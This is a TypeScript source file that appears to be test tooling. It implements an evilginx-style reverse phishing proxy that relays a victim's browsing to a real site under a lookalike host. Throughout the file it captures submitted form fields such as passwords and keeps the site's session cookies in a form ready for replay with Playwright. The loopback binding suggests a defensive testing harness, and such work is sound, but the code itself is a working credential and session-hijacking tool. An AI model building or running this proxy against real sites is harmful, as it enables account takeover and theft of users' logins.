import { createServer, type IncomingMessage, request as requestOf, type ServerResponse } from 'node:http';
import { buffer, text } from 'node:stream/consumers';
import { pipeline } from 'node:stream/promises';
import { closeServer, listenOnLoopback } from './loopback.ts';
import { Disguise } from './phishing-disguise.ts';

/** The name that the victim sees. In Chromium it is a secure context although it is http, as a kit's https page is. */
const HOST = 'signin.localhost';
const REWRITTEN = /^(?:text\/(?:html|css|javascript)|application\/(?:javascript|json|xhtml\+xml))\b/i;

/** A cookie of the target, in the shape in which Playwright's `addCookies` takes it. */
export interface StolenCookie {
  readonly name: string;
  readonly value: string;
  /** The target's address, where the cookie opens a session. */
  readonly url: string;
}

/** A form that the victim filled in. */
export interface StolenForm {
  readonly path: string;
  readonly fields: Readonly<Record<string, string>>;
}

/**
 * A phishing proxy like evilginx and other kits: the victim visits it under another name and sees the real site, since
 * every request is relayed there and every answer back, streams included. The proxy keeps the password on its way in
 * and the session's cookie on its way out. It relays http, but no WebSockets.
 *
 * A browser finds it when it was launched with `extraHosts: [proxy.host]`.
 */
export class PhishingProxy {
  /** What the victim's address bar shows, e.g. `http://signin.localhost:40123`. */
  readonly origin: string;
  /** The host name alone. */
  readonly host: string;
  readonly target: string;
  readonly #server: ReturnType<typeof createServer>;
  readonly #disguise: Disguise;
  readonly #loot: PhishingLoot;

  private constructor(server: ReturnType<typeof createServer>, names: { target: string; host: string; port: number }) {
    this.#server = server;
    this.host = names.host;
    this.target = names.target;
    this.origin = `http://${names.host}:${names.port}`;
    this.#disguise = new Disguise({ target: names.target, proxy: this.origin });
    this.#loot = new PhishingLoot(names.target);
    server.on('request', (request, response) => {
      this.#relay(request, response).catch((error: unknown) => {
        if (response.headersSent) response.destroy();
        else response.writeHead(502).end(`The target did not answer: ${error}`);
      });
    });
  }

  /**
   * Listens on a free port of loopback.
   * @param options.target the site's http origin
   * @param options.host the name it is visited under
   * @throws Error when the target is no http origin
   */
  static async start(options: { target: string; host?: string }): Promise<PhishingProxy> {
    const { target, host = HOST } = options;
    if (!target.startsWith('http:') || new URL(target).origin !== target) {
      throw new Error(`Not an http origin: ${target}`);
    }
    const server = createServer();
    return new PhishingProxy(server, { target, host, port: await listenOnLoopback(server) });
  }

  /** The target's cookies as they stand: to the target, a browser that sends them is the victim's. */
  sessionCookies(): StolenCookie[] {
    return this.#loot.cookies;
  }

  /** What the victim has typed, oldest first. */
  postedForms(): readonly StolenForm[] {
    return this.#loot.forms;
  }

  async stop(): Promise<void> {
    await closeServer(this.#server);
  }

  /** For `await using`. */
  [Symbol.asyncDispose](): Promise<void> {
    return this.stop();
  }

  async #relay(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const path = this.#disguise.requestText(request.url ?? '/');
    const answer = await this.#ask(request, path, response);
    for (const cookie of answer.headers['set-cookie'] ?? []) this.#loot.keepCookie(cookie);
    const headers = this.#disguise.responseHeaders(pairs(answer));
    response.writeHead(answer.statusCode ?? 502, answer.statusMessage, headers.flat());
    if (REWRITTEN.test(answer.headers['content-type'] ?? '')) {
      response.end(this.#disguise.responseText(await text(answer)));
      return;
    }
    // A page with an event stream waits for the headers, long before the first event.
    response.flushHeaders();
    await pipeline(answer, response);
  }

  async #ask(request: IncomingMessage, path: string, response: ServerResponse): Promise<IncomingMessage> {
    const body = this.#bodyForTarget(request, await buffer(request));
    this.#loot.keepForm(path, request.headers['content-type'], body.toString());
    const headers = this.#disguise.requestHeaders(pairs(request));
    if (body.length > 0) headers.push(['content-length', `${body.length}`]);
    return new Promise((resolve, reject) => {
      const asked = requestOf(this.target + path, { method: request.method, headers: headers.flat() }, resolve);
      asked.once('error', reject);
      // A victim who leaves a page ends its streams; the target must hear of it.
      response.once('close', () => asked.destroy());
      asked.end(body);
    });
  }

  #bodyForTarget(request: IncomingMessage, body: Buffer): Buffer {
    const isText = /urlencoded|json|^text\//.test(request.headers['content-type'] ?? '');
    return isText ? Buffer.from(this.#disguise.requestText(body.toString())) : body;
  }
}

/** Headers one by one, names in lower case. Several of one name stay several, as Set-Cookie has to. */
function pairs(message: IncomingMessage): [string, string][] {
  return Object.entries(message.headersDistinct).flatMap(([name, values]) =>
    (values ?? []).map((value): [string, string] => [name, value]),
  );
}

/** What a phishing kit keeps of the traffic. It doesn't tell victims apart: one test has one victim. */
class PhishingLoot {
  readonly forms: StolenForm[] = [];
  readonly #cookies = new Map<string, string>();
  readonly #target: string;

  constructor(target: string) {
    this.#target = target;
  }

  /** The cookies that hold now, without those that the target has replaced or removed. */
  get cookies(): StolenCookie[] {
    return [...this.#cookies].map(([name, value]) => ({ name, value, url: this.#target }));
  }

  /** @param setCookie a Set-Cookie header of the target's, as it was before the disguise */
  keepCookie(setCookie: string): void {
    const [pair = '', ...attributes] = setCookie.split(';').map((part) => part.trim());
    const [name = '', ...value] = pair.split('=');
    if (attributes.some(takesBack)) this.#cookies.delete(name);
    else this.#cookies.set(name, value.join('='));
  }

  /** Keeps forms, as browsers send them. Other bodies are ignored. */
  keepForm(path: string, contentType: string | undefined, body: string): void {
    if (!contentType?.startsWith('application/x-www-form-urlencoded')) return;
    this.forms.push({ path, fields: Object.fromEntries(new URLSearchParams(body)) });
  }
}

function takesBack(attribute: string): boolean {
  const [name = '', value = ''] = attribute.split('=');
  if (name.toLowerCase() === 'max-age') return Number(value) <= 0;
  return name.toLowerCase() === 'expires' && Date.parse(value) <= Date.now();
}
